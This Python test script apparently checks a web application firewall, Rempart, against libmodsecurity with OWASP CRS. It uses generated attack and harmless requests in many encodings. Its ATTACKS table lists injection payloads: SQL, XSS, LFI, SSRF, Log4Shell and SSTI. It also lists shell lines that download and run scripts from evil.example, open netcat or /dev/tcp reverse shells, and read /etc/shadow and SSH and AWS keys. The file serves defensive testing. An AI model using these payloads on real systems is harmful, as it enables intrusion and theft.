"""Compares verdicts of Rempart's WAF engine and of libmodsecurity 3 on generated attacks and harmless requests.

Where `seclang_engine.py` asks which rules match, this asks what a site's owner asks, at the level and threshold that
CRS comes with: is an attack refused, is a harmless request let through? Attacks of every kind that CRS knows, and
texts that people and programs send, are put in every place of a request (query, path, field of the head, cookie,
form, JSON, XML, multipart) and written in every way that a decoder might undo (percent, twice, in other case, with
comments, as entities, as escapes of JSON, in overlong UTF-8). Fails at a verdict that differs and is not listed with
its reason, and at a harmless request that Rempart alone refuses. Not part of `make test`, since libmodsecurity takes
some 5 ms for a request.

    cargo build -p seclang --example verdicts
    python tests/oracles/seclang_corpus.py --crs FOLDER [--requests 3000] [--seed 1] [--paranoia 1]

Needs what seclang_engine.py needs. The texts are of this repository, so that nothing is learned from what a stranger's
corpus holds. Read next: `placed`.
"""

import argparse
import collections
import json
import os
import random
import re
import sys
import urllib.parse

from seclang_engine import BROKEN, LINES, RAW, SETUP, ModSecurity, Request, played, rules_on_raw_bodies

ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "1 OR 1=1--", "' UNION SELECT username,password FROM users--", "1; DROP TABLE users",
        "admin'--", "1' AND SLEEP(5)#", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "') OR ('a'='a",
        "1' ORDER BY 10--", "1 UNION ALL SELECT NULL,NULL,version()", "'; EXEC xp_cmdshell('dir')--",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "1' WAITFOR DELAY '0:0:5'--", "-1' OR 1=1 LIMIT 1 -- -",
        "1 AND ascii(substring((SELECT database()),1,1))>64", "\" or \"\"=\"", "1' || pg_sleep(5)--",
        "1/**/UNION/**/SELECT/**/1,2,3", "1'; INSERT INTO users VALUES('x','y');--", "0x31 or 1=1", "1' RLIKE SLEEP(5)--",
        "%' AND 1=0 UNION SELECT null, table_name FROM information_schema.tables #", "1 procedure analyse()",
        "1' and benchmark(10000000,md5(1))--", "x' AND email IS NULL; --", "case when (1=1) then 1 else 0 end",
    ],
    "xss": [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>", "<body onload=alert('x')>", "'><script src=//evil.example/x.js></script>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<img src=`x` onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<style>@import'//evil.example/x.css';</style>",
        "{{constructor.constructor('alert(1)')()}}", "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
        "<form action=javascript:alert(1)><input type=submit>", "<base href=//evil.example/>", "document.cookie",
        "<x onclick=alert(1)>click", "';alert(String.fromCharCode(88,83,83))//", "<script>fetch('//e.example')</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    ],
    "rce": [
        ";cat /etc/passwd", "|id", "`id`", "$(whoami)", "&& wget http://evil.example/x.sh -O /tmp/x", "| nc -e /bin/sh 10.0.0.1 4444",
        "; ping -c 10 127.0.0.1", "() { :; }; /bin/bash -c id", "${IFS}cat${IFS}/etc/passwd", "; curl http://evil.example | sh",
        "& dir C:\\", "powershell -enc SQBFAFgA", "cmd.exe /c whoami", "c'a't /etc/passwd", "/bin/ca? /etc/pass*", "; uname -a",
        "a;python3 -c 'import os;os.system(\"id\")'", "|perl -e 'print 1'", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "\nid\n", "; echo YmFzaA== | base64 -d | sh", "1;sleep${IFS}9", "|tasklist", "; busybox telnetd", "|| ls -la /",
    ],
    "lfi": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
        "file:///etc/passwd", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
        "..%c0%af..%c0%afetc/passwd", "/var/www/../../etc/passwd", "../../../.env", "/.git/config", "../../WEB-INF/web.xml",
        "..;/..;/manager/html", "/root/.ssh/id_rsa", "../../../../../boot.ini%00.jpg", "/.aws/credentials",
    ],
    "rfi_ssrf": [
        "http://127.0.0.1/admin", "http://169.254.169.254/latest/meta-data/", "http://evil.example/shell.txt?",
        "gopher://127.0.0.1:6379/_INFO", "http://[::1]/", "http://2130706433/", "http://metadata.google.internal/",
        "ftp://evil.example/x.php?", "dict://127.0.0.1:11211/stat", "http://0x7f000001/", "http://localhost:8080/?",
        "https://10.0.0.1@evil.example/x?",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "phpinfo()", "eval(base64_decode('aWQ='))", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "assert($_POST[x])", "$_SERVER['DOCUMENT_ROOT']", "allow_url_include=1", "preg_replace('/x/e','system(1)','x')",
        "<?= `id` ?>", "data://text/plain;base64,PD9waHA=", "file_get_contents('/etc/passwd')", "call_user_func('system','id')",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "java.lang.Runtime.getRuntime()",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "class.module.classLoader.resources.context.parent",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "T(java.lang.Runtime).getRuntime().exec('id')", "java.lang.ProcessBuilder",
        "#{T(java.lang.System).getenv()}", "${env:AWS_SECRET}",
    ],
    "nosql_ssti_ldap_node": [
        "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$where\": \"sleep(1000)\"}", "';return true;var x='", "{{7*7}}", "${7*7}",
        "<%= 7*7 %>", "{{config.items()}}", "*)(uid=*))(|(uid=*", "admin)(&(password=*", "require('child_process').exec('id')",
        "process.mainModule.require('fs')", "__proto__[admin]=1", "constructor.prototype.x", "{% import os %}{{os.popen('id')}}",
        "#{7*7}", "_$$ND_FUNC$$_function(){}", "x%0d%0aSet-Cookie: a=b", "a\r\nX-Injected: 1",
    ],
}

HARMLESS = [
    "O'Brien", "D'Angelo & Sons", "Smith; Jones and Partners", "rock 'n' roll", "5 > 3 and 2 < 4", "C++ for beginners",
    "select a seat from the list", "drop us a line at the table", "union of workers and all employees", "where is my order?",
    "I'd like 1 or 2 tickets, not 3", "price = 10 EUR (incl. 20% VAT)", "AT&T", "100% cotton", "#1 fan!", "a/b testing",
    "https://www.example.org/path/page.html?utm_source=news&utm_medium=mail&id=12345", "mailto:jane@example.org",
    "The quick brown fox jumps over the lazy dog, again and again, until the fox is tired and the dog is not.",
    "how do i update my address and delete my old card from the account settings page",
    "cheap flights from paris to new york in december for two adults and one child with luggage",
    "Grüße aus München – schöne Straße", "こんにちは世界", "Привет, мир", "مرحبا بالعالم", "emoji 😀🎉 and ✓", "naïve café",
    "# Title\n\nSome *emphasis*, `code`, and a [link](https://example.org).\n\n- one\n- two\n",
    "| a | b |\n| --- | --- |\n| 1 | 2 |\n", "> quoted\n\n1. first\n2. second", "Dear all,\n\nthanks for coming!\n\nBest,\nAnn",
    "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJl",
    "550e8400-e29b-41d4-a716-446655440000", "d41d8cd98f00b204e9800998ecf8427e", "2026-11-26T16:00:00+01:00", "+49 (30) 1234-567",
    "for (let i = 0; i < 10; i++) { total += i; }", "def add(a, b):\n    return a + b\n", "fn main() { println!(\"hello\"); }",
    "int x = 5; // a comment", "SELECT name FROM city WHERE country = 'FR' ORDER BY name", "body { color: #333; margin: 0 auto; }",
    "<p>Hello <b>world</b></p>", "<div class=\"note\">text</div>", "x = y ? 1 : 2", "if a == b then c else d", "ls -l | sort",
    "{\"key\": [1, 2, 3], \"other\": null}", "a=1&b=2", "key: value\nlist:\n  - one\n", "C:\\Users\\jane\\report.docx",
    "/photos/2026/summer.jpg", "index.php", "version 2.0.1-beta+build.7", "1,234.56", "-12.5e3", "0x1F", "true", "null",
    "user@example.org, other@example.net", "50°C ± 2", "\"quoted\" and 'single'", "(parentheses) [brackets] {braces}", "what?! ...no way",
    "Q&A: is it safe to eval user input?", "the script of the film is alert and clever", "cat and dog", "I like python and perl",
    "ping me when you are at the shell station", "echo of the past", "id card", "time to sleep", "curl your hair", "the order by phone",
    "insert coin into slot", "having fun and group by age", "Re: your mail -- see below", "Terms & Conditions; Privacy",
    "1=1 is a tautology", "l'été à l'hôtel d'à côté", "rock&roll #music @home", "50/50", "N/A", "e=mc^2", "~/.bashrc", "*.txt",
]


FILES = [
    "report.docx", "C:\\Users\\jane\\report.docx", "photo (1).jpg", "Grüße.pdf", "O'Brien.txt", "日本.png", "archive.tar.gz",
    "notes & ideas.md", "a;b.txt", "übersicht %22final%22.pdf", "100% done.xlsx", "IMG_20261126_160000.HEIC", "résumé, 2026.odt",
]

# What Rempart loads before a zone's rules, and ModSecurity recommends: bodies that cannot be read are refused.
RECOMMENDED = """
SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,t:none,deny,status:400,log"
SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:200003,phase:2,t:none,deny,status:400,log"
"""


def percent(text):
    return urllib.parse.quote(text, safe="")


def mixed_case(text):
    return "".join(c.upper() if at % 2 else c.lower() for at, c in enumerate(text))


def overlong(text):
    """Slashes, quotes and brackets as two bytes of UTF-8, which a careless decoder takes for them."""
    return "".join(f"%{0xC0 | ord(c) >> 6:02x}%{0x80 | ord(c) & 63:02x}" if c in "/'<>" else percent(c) for c in text)


# Ways to write a text in a target or a form; the text itself, then as it stands there.
WAYS = {
    "percent": percent,
    "plus": lambda text: percent(text).replace("%20", "+"),
    "twice": lambda text: percent(percent(text)),
    "case": lambda text: percent(mixed_case(text)),
    "comments": lambda text: percent(text.replace(" ", "/**/")),
    "tabs": lambda text: percent(text.replace(" ", "\t")),
    "lines": lambda text: percent(text.replace(" ", "\r\n")),
    "entities": lambda text: percent("".join(f"&#{ord(c)};" if c in "<>'\"()" else c for c in text)),
    "entities16": lambda text: percent("".join(f"&#x{ord(c):x};" if c in "<>'\"()" else c for c in text)),
    "u": lambda text: "".join(f"%u{ord(c):04x}" if c in "<>'\"()/; " else percent(c) for c in text),
    "overlong": overlong,
    "fullwidth": lambda text: percent("".join(chr(ord(c) + 0xFEE0) if c in "<>'\"()=" else c for c in text)),
    "all": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "upper_hex": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "nul": lambda text: percent(text) + "%00",
    "broken": lambda text: percent(text) + "%",
    "backslash_u": lambda text: percent("".join(f"\\u{ord(c):04x}" if c in "<>'\"" else c for c in text)),
    "backslash_x": lambda text: percent("".join(f"\\x{ord(c):02x}" if c in "<>'\"" else c for c in text)),
    "padded": lambda text: percent(" " * 20 + text + " " * 20),
    "embedded": lambda text: percent("well, " + text + " and so on"),
}

BROWSER = [
    (b"Host", b"shop.example"),
    (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"Accept-Language", b"en-US,en;q=0.5"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
]


def printable(text):
    """As a field of the head can carry it."""
    return bytes(byte for byte in text.encode() if 31 < byte < 127)


def get(name, target, more=()):
    return Request(name, b"GET", target.encode("ascii", "ignore"), b"HTTP/1.1", [*BROWSER, *more], b"")


def post(name, kind, body, target=b"/contact"):
    body = body.encode() if isinstance(body, str) else body
    fields = [*BROWSER, (b"Content-Type", kind.encode()), (b"Content-Length", str(len(body)).encode())]
    return Request(name, b"POST", target, b"HTTP/1.1", fields, body)


def escaped_json(text):
    return "".join(f"\\u{ord(c):04x}" if c in "<>'\"&" else json.dumps(c, ensure_ascii=False)[1:-1] for c in text)


def escaped_xml(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def parts(text, style):
    """A multipart body with a field, its name and file written in one of several styles."""
    name = {"quoted": 'name="message"', "token": "name=message", "single": "name='message'", "spaces": 'name = "message"',
            "escaped": 'name="mess\\"age"', "star": "name*=UTF-8''message"}.get(style, 'name="message"')
    file = f'; filename="{text}"' if style == "filename" else ""
    value = "content" if style == "filename" else text
    body = (f"--XyZ\r\nContent-Disposition: form-data; {name}{file}\r\n\r\n{value}\r\n"
            '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n'
            "hello\r\n--XyZ--\r\n")
    return body


# Places of a request that hold a text, each with the ways it may be written there.
def placed(name, text, chance, is_harmless):
    """The text in one place, drawn by chance."""
    ways = ["percent", "plus"] if is_harmless else list(WAYS)
    way = chance.choice(ways)
    written = WAYS[way](text)
    place = chance.choice([
        "query", "query", "name", "path", "field", "referer", "agent", "cookie", "form", "form", "json", "json", "xml", "multipart",
        "text",
    ] if not is_harmless else ["query", "query", "form", "form", "json", "json", "xml", "multipart", "cookie"])
    name = f"{name}/{place}/{way}"
    if place == "query":
        return get(name, f"/search?page=1&q={written}")
    if place == "name":
        return get(name, f"/search?{written}=1")
    if place == "path":
        return get(name, f"/files/{written.replace('+', '%20')}")
    if place == "field":
        return get(name, "/", [(b"X-Forwarded-Host", printable(text))])
    if place == "referer":
        return get(name, "/", [(b"Referer", b"https://other.example/?q=" + written.encode("ascii", "ignore"))])
    if place == "agent":
        head = [(known, value) for known, value in BROWSER if known != b"User-Agent"]
        return Request(name, b"GET", b"/", b"HTTP/1.1", [*head, (b"User-Agent", printable(text))], b"")
    if place == "cookie":
        return get(name, "/", [(b"Cookie", b"session=abc123; note=" + percent(text).encode())])
    if place == "form":
        return post(name, "application/x-www-form-urlencoded", f"name=Ann&message={written}&send=1")
    if place == "json":
        style = chance.choice(["flat", "nested", "array", "key", "escaped", "deep"])
        plain = json.dumps(text, ensure_ascii=False)
        body = {
            "flat": f'{{"message": {plain}}}', "nested": f'{{"a": {{"b": {{"message": {plain}}}}}}}',
            "array": f'{{"list": ["one", {plain}, 3]}}', "key": f"{{{plain}: 1}}", "escaped": f'{{"message": "{escaped_json(text)}"}}',
            "deep": '{"a":' * 12 + plain + "}" * 12,
        }["flat" if is_harmless and style == "key" else style]
        return post(f"{name}/{style}", "application/json", body, b"/api/v1/items")
    if place == "xml":
        style = chance.choice(["text", "attribute", "cdata"])
        body = {"text": f"<m><t>{escaped_xml(text)}</t></m>", "attribute": f'<m t="{escaped_xml(text)}"/>',
                "cdata": f"<m><![CDATA[{text.replace(']]>', '')}]]></m>"}[style]
        return post(f"{name}/{style}", "application/xml", '<?xml version="1.0"?>' + body, b"/api/xml")
    if place == "multipart":
        style = chance.choice(["quoted", "quoted", "token", "single", "spaces", "escaped", "star", "filename"] if not is_harmless
                              else ["quoted", "filename"])
        text = chance.choice(FILES) if is_harmless and style == "filename" else text
        return post(f"{name}/{style}", "multipart/form-data; boundary=XyZ", parts(text, style))
    return post(name, "text/plain", text)


def corpus(count, chance):
    """So many attacks and as many harmless requests."""
    kinds = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
    for number in range(count):
        kind, text = kinds[number % len(kinds)]
        yield True, placed(f"{kind}~{number}", text, chance, False)
    for number in range(count):
        text = HARMLESS[number % len(HARMLESS)]
        if chance.randrange(3) == 0:
            text += " " + chance.choice(HARMLESS)
        yield False, placed(f"harmless~{number}", text, chance, True)


# The rules that refuse: by the score, and a body that cannot be read.
REFUSING = {949110, 200002, 200003}
# What follows from other differences.
SUMS = {949110, 959100, 980170}
# Rules whose pattern has an alternative that begins with ^, which libmodsecurity finds at the beginning of each line.
OF_LINES = {932340, 932350, 942200, 942330, 942360}
FEEDS = "libmodsecurity loses line feeds of a multipart field that have no carriage return before them"


def reason(request, more, fewer, raw):
    """Why a verdict differs, where that is known."""
    reasons = set()
    for rule in (more | fewer) - SUMS:
        if rule in fewer and rule in raw and request.body:
            reasons.add(RAW)
        elif rule in OF_LINES and re.search(rb"%0a|\n|\\n", request.target + request.body, re.I):
            reasons.add(LINES)
        elif "/multipart/" in request.name and re.search(rb"[^\r]\n", request.body):
            reasons.add(FEEDS)
        elif rule in more and rule in {922130, 200002, 200003} and "/multipart/" in request.name:
            reasons.add(BROKEN)
        else:
            return None
    return "; ".join(sorted(reasons)) or None


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--crs", default=os.environ.get("REMPART_CRS"), help="a folder of OWASP CRS")
    parser.add_argument("--ours", default="target/debug/examples/verdicts")
    parser.add_argument("--requests", type=int, default=3000, help="attacks, and as many harmless requests")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--paranoia", type=int, default=1)
    parser.add_argument("--show", type=int, default=40, help="differences to show")
    options = parser.parse_args()
    if not options.crs:
        sys.exit("not run: neither --crs nor REMPART_CRS names a copy of OWASP CRS")
    level = RECOMMENDED + f'SecAction "id:900500,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={options.paranoia}"\n'
    setup = re.sub(r"(?s)SecAction \"id:900500.*", "", SETUP) + level
    made = list(corpus(options.requests, random.Random(options.seed)))
    requests = [request for _, request in made]
    ours, theirs = played(options.ours, options.crs, setup, requests), ModSecurity(options.crs, setup)
    raw = rules_on_raw_bodies(options.crs)
    counts, differences = collections.Counter(), []
    for (is_attack, request), found in zip(made, ours, strict=True):
        expected = theirs.play(request)
        if expected is None or not isinstance(found, list):
            counts["not played"] += 1
            continue
        found = set(found)
        kind = "attacks" if is_attack else "harmless"
        counts[kind] += 1
        is_refused, is_expected = bool(REFUSING & found), bool(REFUSING & expected)
        counts[f"{kind} refused by Rempart"] += is_refused
        counts[f"{kind} refused by libmodsecurity"] += is_expected
        if is_refused != is_expected:
            more, fewer = found - expected, expected - found
            differences.append((request, more, fewer, reason(request, more, fewer, raw)))
    for word in sorted(counts):
        print(f"{word}: {counts[word]}")
    for request, more, fewer, why in differences[: options.show]:
        print(f"\n{request.name}\n  {request.target!r} {request.body[:300]!r}\n  more {sorted(more)} fewer {sorted(fewer)}")
        for known, value in request.headers[5:]:
            print(f"  {known!r}: {value!r}")
        print(f"  {why or 'NOT EXPLAINED'}")
    unknown = sum(why is None for *_, why in differences)
    print(f"\n{len(differences)} verdicts differ, {unknown} in a way that nobody has explained")
    sys.exit(unknown > 0)


if __name__ == "__main__":
    main()
